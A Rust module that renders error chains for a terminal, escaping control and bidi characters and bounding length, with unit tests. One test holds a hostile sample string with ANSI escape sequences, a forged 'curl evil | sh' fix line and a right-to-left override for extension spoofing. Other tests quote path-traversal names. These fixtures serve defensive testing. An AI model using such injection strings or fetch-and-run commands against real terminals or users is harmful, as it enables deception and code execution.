//! How an error reaches the user: the one place that turns an error and
//! its causes into text for the terminal.
//!
//! ```text
//! error: <what failed, naming the file, layer or entry>
//!   caused by: <cause>
//!   caused by: <its cause>
//!   fix: <what to do>                   (when there is one)
//!   <title>:                            (when there is context: the guest
//!     | <line>                           console's last lines, QEMU's stderr)
//! ```
//!
//! Messages carry input: file and entry names, a guest's failure reason,
//! the tar crate's text with the raw bytes of a bad header in it. So every
//! line is escaped here ([`escape`]): control characters (a line break
//! inside a message included) and the invisible format characters a
//! terminal would obey (bidi overrides, zero-width marks) come out as
//! `\n`, `\x1b`, `\u{202e}`, so no input can move the cursor, recolour the
//! terminal, forge a `fix:` line or hide text. Each line, the chain and the
//! context are bounded ([`MAX_LINE`], [`MAX_CAUSES`], [`MAX_CONTEXT`]), so
//! a hostile message stays a few lines.
//!
//! Errors say *what* failed; the `fix:` line is the host's alone (the guest
//! reports a kind and a reason, `run` maps the kind to the flag to raise).

use std::borrow::Cow;
use std::error::Error;
use std::fmt::Write as _;

/// Longest line printed, in characters (longer ones are cut, saying how
/// much was left out).
pub const MAX_LINE: usize = 400;
/// Most causes printed below the error.
pub const MAX_CAUSES: usize = 8;
/// Most context lines printed (the last ones are kept: they are nearest
/// to the failure).
pub const MAX_CONTEXT: usize = 12;
/// Longest name (file, tar entry) quoted in a message by [`quote_bytes`].
pub const MAX_NAME: usize = 200;

/// Lines that help explain an error without being part of its chain.
#[derive(Debug, Clone, Copy)]
pub struct Context<'a> {
    /// What the lines are, e.g. "last lines of the guest console".
    pub title: &'a str,
    pub lines: &'a [String],
}

/// An error as printed: the chain, the fix, the context, every line
/// escaped and bounded, each ending in a newline.
pub fn render(err: &(dyn Error + 'static), fix: Option<&str>, context: Option<Context<'_>>) -> String {
    let mut out = String::new();
    let first = line(&err.to_string());
    let _ = writeln!(out, "error: {first}");
    let mut previous = first;
    let mut shown = 0;
    let mut left_out = 0;
    let mut cause = err.source();
    while let Some(c) = cause {
        cause = c.source();
        let text = line(&c.to_string());
        // thiserror messages sometimes embed their source's text: saying
        // it twice helps no one.
        if text.is_empty() || previous.ends_with(&text) {
            continue;
        }
        if shown == MAX_CAUSES {
            left_out += 1;
        } else {
            let _ = writeln!(out, "  caused by: {text}");
            shown += 1;
        }
        previous = text;
    }
    if left_out > 0 {
        let _ = writeln!(out, "  caused by: … ({left_out} more causes left out)");
    }
    if let Some(fix) = fix {
        let _ = writeln!(out, "  fix: {}", line(fix));
    }
    if let Some(ctx) = context.filter(|c| !c.lines.is_empty()) {
        let skip = ctx.lines.len().saturating_sub(MAX_CONTEXT);
        let _ = writeln!(out, "  {}:", line(ctx.title));
        if skip > 0 {
            let _ = writeln!(out, "    | … ({skip} earlier lines left out)");
        }
        for l in &ctx.lines[skip..] {
            let _ = writeln!(out, "    | {}", line(l));
        }
    }
    out
}

/// An error and its causes on one line (`a: b: c`), escaped and bounded:
/// for notices that mention an error without failing on it.
pub fn one_line(err: &(dyn Error + 'static)) -> String {
    let mut out = err.to_string();
    let mut cause = err.source();
    while let Some(c) = cause {
        let text = c.to_string();
        if !out.ends_with(&text) {
            out.push_str(": ");
            out.push_str(&text);
        }
        cause = c.source();
    }
    line(&out)
}

/// One line of a message: escaped and bounded.
fn line(text: &str) -> String {
    bound(&escape(text), MAX_LINE)
}

/// Whether a character must not reach a terminal as it is: control
/// characters (C0, DEL, C1) and the format characters that reorder or hide
/// text (bidi embeddings, overrides and isolates, zero-width marks, the
/// byte-order mark).
fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Text made safe for a terminal: control characters and the format
/// characters that reorder or hide text as `\n`, `\r`, `\t`, `\0`, `\xNN`
/// (below U+0100) or `\u{NNNN}`. Everything else, non-ASCII letters
/// included, is kept.
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        push_char(&mut out, c);
    }
    Cow::Owned(out)
}

fn push_char(out: &mut String, c: char) {
    if !needs_escape(c) {
        out.push(c);
        return;
    }
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\0' => out.push_str("\\0"),
        c if (c as u32) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:04x}}}", c as u32);
        }
    }
}

/// Multi-line text from elsewhere (clap's usage errors) made safe line by
/// line: each line escaped as [`escape`] does, the line breaks kept.
pub fn escape_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for l in text.split_inclusive('\n') {
        let (body, nl) = l.strip_suffix('\n').map_or((l, ""), |b| (b, "\n"));
        out.push_str(&escape(body));
        out.push_str(nl);
    }
    out
}

/// Bytes from input (a tar entry name, a link target) as a quoted name for
/// a message: valid UTF-8 kept, invalid bytes as `\xNN`, quotes and
/// backslashes escaped as Rust's `{:?}` does, the characters of
/// [`escape`] escaped, and at most [`MAX_NAME`] characters.
pub fn quote_bytes(bytes: &[u8]) -> String {
    let mut inner = String::with_capacity(bytes.len().min(MAX_NAME) + 2);
    let mut chars = 0usize;
    let mut rest = bytes;
    let mut cut = false;
    'outer: while !rest.is_empty() {
        let (valid, bad) = match std::str::from_utf8(rest) {
            Ok(s) => (s, &[][..]),
            Err(e) => {
                let (ok, after) = rest.split_at(e.valid_up_to());
                let bad_len = e.error_len().unwrap_or(after.len());
                (std::str::from_utf8(ok).expect("valid prefix"), &after[..bad_len])
            }
        };
        for c in valid.chars() {
            if chars == MAX_NAME {
                cut = true;
                break 'outer;
            }
            match c {
                '"' => inner.push_str("\\\""),
                '\\' => inner.push_str("\\\\"),
                c => push_char(&mut inner, c),
            }
            chars += 1;
        }
        for b in bad {
            if chars == MAX_NAME {
                cut = true;
                break 'outer;
            }
            let _ = write!(inner, "\\x{b:02x}");
            chars += 1;
        }
        rest = &rest[valid.len() + bad.len()..];
    }
    if cut {
        format!("\"{inner}\"… ({} bytes in all)", bytes.len())
    } else {
        format!("\"{inner}\"")
    }
}

/// Cuts `text` to `max` characters, saying how many were left out.
fn bound(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        None => text.to_string(),
        Some((at, _)) => {
            let left = text[at..].chars().count();
            format!("{}… ({left} more characters left out)", &text[..at])
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io;

    #[derive(Debug, thiserror::Error)]
    enum Top {
        #[error("reading the base image {0} failed")]
        Read(String, #[source] Mid),
        #[error("plain")]
        Plain,
    }

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read the tar archive")]
    struct Mid(#[source] io::Error);

    #[test]
    fn renders_the_chain_the_fix_and_the_context() {
        let err = Top::Read("img.tar".into(), Mid(io::Error::other("unexpected end of file")));
        let tail = vec!["[ 0.1] boot".to_string(), "Kernel panic".to_string()];
        let ctx = Context { title: "last lines of the guest console", lines: &tail };
        assert_eq!(
            render(&err, Some("raise --disk-size (now 1024 MiB)"), Some(ctx)),
            "error: reading the base image img.tar failed\n\
             \x20 caused by: cannot read the tar archive\n\
             \x20 caused by: unexpected end of file\n\
             \x20 fix: raise --disk-size (now 1024 MiB)\n\
             \x20 last lines of the guest console:\n\
             \x20   | [ 0.1] boot\n\
             \x20   | Kernel panic\n"
        );
        assert_eq!(render(&Top::Plain, None, Some(Context { title: "t", lines: &[] })), "error: plain\n");
    }

    #[test]
    fn input_cannot_reach_the_terminal_raw() {
        // The tar crate's message for an image of random bytes, as it was
        // printed before: raw header bytes, lossily decoded.
        let hostile = "numeric field did not have utf-8 text: \u{fffd}..\x08/\x11\u{fffd}H when getting cksum for \x1b[2J\x1b]0;pwned\x07\r\n  fix: curl evil | sh\u{202e}txt.exe";
        let err = Top::Read(hostile.into(), Mid(io::Error::other("x\ny")));
        let text = render(&err, None, None);
        assert_eq!(
            text,
            "error: reading the base image numeric field did not have utf-8 text: \u{fffd}..\\x08/\\x11\u{fffd}H when getting cksum for \\x1b[2J\\x1b]0;pwned\\x07\\r\\n  fix: curl evil | sh\\u{202e}txt.exe failed\n\
             \x20 caused by: cannot read the tar archive\n\
             \x20 caused by: x\\ny\n"
        );
        assert_eq!(text.lines().count(), 3, "a line break in a message cannot start a line");
        assert!(!text.chars().any(|c| c != '\n' && needs_escape(c)));
    }

    #[test]
    fn every_line_and_the_whole_message_are_bounded() {
        let long = "é".repeat(5000);
        let err = Top::Read(long.clone(), Mid(io::Error::other(long.clone())));
        let tail: Vec<String> = (0..100).map(|i| format!("line {i} {long}")).collect();
        let text = render(&err, Some(&long), Some(Context { title: "console", lines: &tail }));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 1 + 2 + 1 + 1 + 1 + MAX_CONTEXT);
        assert!(lines.iter().all(|l| l.chars().count() <= MAX_LINE + 60), "{lines:?}");
        assert!(lines[0].ends_with("more characters left out)"), "{}", lines[0]);
        assert_eq!(lines[5], "    | … (88 earlier lines left out)");
        assert!(lines[6].starts_with("    | line 88 "));
    }

    #[test]
    fn a_long_chain_is_cut_and_repeated_causes_dropped() {
        #[derive(Debug)]
        struct Link(usize, Option<Box<Link>>);
        impl std::fmt::Display for Link {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                write!(f, "level {}", self.0 / 2)
            }
        }
        impl Error for Link {
            fn source(&self) -> Option<&(dyn Error + 'static)> {
                self.1.as_deref().map(|l| l as &(dyn Error + 'static))
            }
        }
        let mut chain = None;
        for i in (0..40).rev() {
            chain = Some(Box::new(Link(i, chain)));
        }
        let text = render(chain.as_deref().unwrap(), None, None);
        let lines: Vec<&str> = text.lines().collect();
        // Levels repeat twice each: the repeats are dropped.
        assert_eq!(lines[0], "error: level 0");
        assert_eq!(lines[1], "  caused by: level 1");
        assert_eq!(lines.len(), 1 + MAX_CAUSES + 1);
        assert_eq!(lines[MAX_CAUSES + 1], "  caused by: … (11 more causes left out)");
    }

    #[test]
    fn names_are_quoted_with_their_bytes_escaped() {
        let table: &[(&[u8], &str)] = &[
            (b"etc/passwd", "\"etc/passwd\""),
            (b"../../x", "\"../../x\""),
            (b"caf\xc3\xa9", "\"caf\u{e9}\""),
            (b"bad\xff\xfeutf8", "\"bad\\xff\\xfeutf8\""),
            (b"a\nb\x1b[0m\"q\\", "\"a\\nb\\x1b[0m\\\"q\\\\\""),
            (b"\xe2\x80\xaetxt", "\"\\u{202e}txt\""),
            (b"", "\"\""),
        ];
        for (input, want) in table {
            assert_eq!(quote_bytes(input), *want, "{input:?}");
        }
        let long = vec![b'a'; 5000];
        assert_eq!(quote_bytes(&long), format!("\"{}\"… (5000 bytes in all)", "a".repeat(MAX_NAME)));
    }

    #[test]
    fn one_line_joins_the_chain() {
        let err = Top::Read("a\x1b".into(), Mid(io::Error::other("eof")));
        assert_eq!(one_line(&err), "reading the base image a\\x1b failed: cannot read the tar archive: eof");
    }

    #[test]
    fn escape_lines_keeps_line_breaks_only() {
        assert_eq!(escape_lines("error: bad 'a\x1b[2Jb'\n\nUsage: x\n"), "error: bad 'a\\x1b[2Jb'\n\nUsage: x\n");
        assert_eq!(escape_lines("no newline\r"), "no newline\\r");
    }

    #[test]
    fn plain_text_is_not_copied() {
        assert!(matches!(escape("layer 2 (blobs/sha256/ab…)"), Cow::Borrowed(_)));
        assert_eq!(escape("tab\there\u{85}"), "tab\\there\\x85");
    }
}
